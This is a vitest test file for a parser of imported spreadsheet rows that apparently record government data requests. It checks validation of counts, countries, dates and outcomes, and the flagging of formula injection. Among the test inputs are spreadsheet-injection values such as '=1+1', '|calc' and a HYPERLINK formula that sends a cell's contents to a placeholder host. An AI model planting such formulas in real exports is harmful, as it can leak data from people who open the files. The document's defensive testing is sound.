import { describe, expect, test } from "vitest";
import { readImportFile } from "./read-import-file";
import { bytesOf, importText, type SomeCells } from "./testing/import-text";

const now = new Date("2026-11-23T12:00:00Z");
const read = (...rows: SomeCells[]) => readImportFile(bytesOf(importText(rows)), now);

async function expectRefused(cells: SomeCells, field: string, code: string) {
  const file = await read({}, cells);
  expect(file.problems).toMatchObject([{ row: 3, field, code }]);
  expect(file.problems[0]?.message).toMatch(/^[A-Z].*\.$/);
  expect(file).toMatchObject({ dataRows: 2, refusedRows: 1, rows: [{ line: 2 }] });
}

describe("a number of accounts", () => {
  test.each(["0", "1", "43", "1000000", " 7 "])("%j is read", async (accounts) => {
    expect((await read({ accounts })).rows).toMatchObject([{ accounts: Number(accounts) }]);
  });

  test.each(
    [
      "1,251",
      " -",
      "NULL",
      "#REF!",
      "572.113074204947",
      "-1",
      "+1",
      "1e3",
      "０１",
      "0x10",
      "<10",
      "3 - 499",
      "1 251",
    ].concat(["12.0", "007", "１", "½", "Infinity", "1\u200b2"]),
  )("%j is refused, never guessed at", async (accounts) => {
    await expectRefused({ accounts }, "accounts", "accounts-not-plain");
  });

  test.each(["", "  ", "\u00a0"])("%j is asked for", async (accounts) => {
    await expectRefused({ accounts }, "accounts", "accounts-blank");
  });

  test.each(["1000001", "9007199254740993", "9".repeat(90)])("%s is too many", async (accounts) => {
    await expectRefused({ accounts }, "accounts", "accounts-too-many");
  });
});

describe("a row", () => {
  test.each([
    [{ intake_ref: "" }, "intake_ref", "blank"],
    [{ authority: " " }, "authority", "blank"],
    [{ channel: "pigeon" }, "channel", "unknown-channel"],
    [{ channel: "" }, "channel", "unknown-channel"],
    [{ category: "Criminal" }, "category", "unknown-category"],
    [{ category: "" }, "category", "unknown-category"],
    [{ outcome: "granted" }, "outcome", "unknown-outcome"],
    [{ country: "ZZ" }, "country", "unknown-country"],
    [{ country: "de" }, "country", "unknown-country"],
    [{ country: "", country_label: "" }, "country", "no-country"],
    [{ received_at: "03/04/2025" }, "received_at", "order-unknown"],
    [{ received_at: "" }, "received_at", "blank"],
    [{ received_at: "2026-11-23T12:00:01Z" }, "received_at", "in-the-future"],
    [{ decided_at: "2025-03-06" }, "decided_at", "no-time"],
    [{ decided_at: "2026-12-24T00:00:00Z" }, "decided_at", "in-the-future"],
    [{ outcome: "" }, "decided_at", "decided-without-outcome"],
    [{ product: "G\0CP" }, "product", "nul"],
    [{ authority: "x".repeat(1_000_000) }, "authority", "too-long"],
    [{ agency_ref: "ﷺ".repeat(200) }, "agency_ref", "too-long"],
    [{ received_at: "9".repeat(10_001) }, "received_at", "too-long"],
  ] as const)("with %.60j is refused by name", async (cells, field, code) => {
    await expectRefused(cells, field, code);
  });

  test("is refused once for each thing wrong with it", async () => {
    const file = await read({ accounts: "x", country: "ZZ", outcome: "?" });
    expect(new Set(file.problems.map((problem) => problem.field))).toEqual(new Set(["accounts", "country", "outcome"]));
    expect(file.refusedRows).toBe(1);
  });

  test("shows a long value shortened", async () => {
    const { problems } = await read({ authority: "x".repeat(1_000_000) });
    expect(problems[0]?.value).toBe(`${"x".repeat(79)}…`);
    expect(problems[0]?.message).toContain("1000000");
  });

  test.each([
    [{ country: "UK" }, "United Kingdom is GB."],
    [{ country: "de" }, "Germany is DE."],
    [{ country: "Germany" }, "Germany is DE."],
  ])("with %j is told what was probably meant", async (cells, hint) => {
    expect((await read(cells)).problems[0]?.message).toContain(hint);
  });
});

describe("a row that is odd but not wrong", () => {
  test.each([
    [{ country: "", country_label: "International (region)" }, "label-without-code", "country_label"],
    [{ country: "", country_label: "Turkey*" }, "label-without-code", "country_label"],
    [{ country: "DE", country_label: "France" }, "label-contradicts-code", "country"],
    [{ country: "CN", country_label: "Korea" }, "label-contradicts-code", "country"],
    [{ decided_at: "2025-03-04T07:59:59Z" }, "decided-before-received", "decided_at"],
    [{ outcome: "preserved" }, "outcome-beside-category", "outcome"],
    [{ category: "preservation" }, "outcome-beside-category", "outcome"],
    [{ authority: "=1+1" }, "formula", "authority"],
    [{ authority: "＝1+1" }, "formula", "authority"],
    [{ agency_ref: "\t=1+1" }, "formula", "agency_ref"],
    [{ product: "@SUM(1+9)" }, "formula", "product"],
    [{ legal_process: "-2+3" }, "formula", "legal_process"],
  ] as const)("%j is kept with a warning", async (cells, code, field) => {
    const file = await read(cells);
    expect(file.warnings).toMatchObject([{ rows: [2], code, field }]);
    expect(file.rows).toHaveLength(1);
  });

  test.each([
    { country: "KR", country_label: "Korea" },
    { country: "TR", country_label: "Turkey*" },
    { country: "DE", country_label: "" },
    { country: "US", country_label: "Guam and elsewhere" },
    { category: "preservation", outcome: "preserved" },
    { outcome: "pending" },
    { agency_ref: "", product: "", legal_process: "" },
    { authority: "'=already-quoted" },
    { authority: "|calc" },
    { authority: "%0A=1+1" },
  ])("%j is nothing to warn of", async (cells) => {
    expect(await read(cells)).toMatchObject({ warnings: [], problems: [], dataRows: 1 });
  });

  test("keeps a formula to the letter", async () => {
    const authority = '=HYPERLINK("http://example.test/?x="&A1,"open")';
    expect((await read({ authority })).rows[0]?.authority).toBe(authority);
  });

  test("suggests a code for a label it knows, and keeps the label alone", async () => {
    const file = await read({ country: "", country_label: "Turkey*" }, { country: "", country_label: "Turkey*" });
    expect(file.warnings).toMatchObject([{ rows: [2, 3] }]);
    expect(file.warnings[0]?.message).toContain("TR");
    expect(file.rows[0]).toMatchObject({ country: "", countryLabel: "Turkey*" });
  });
});
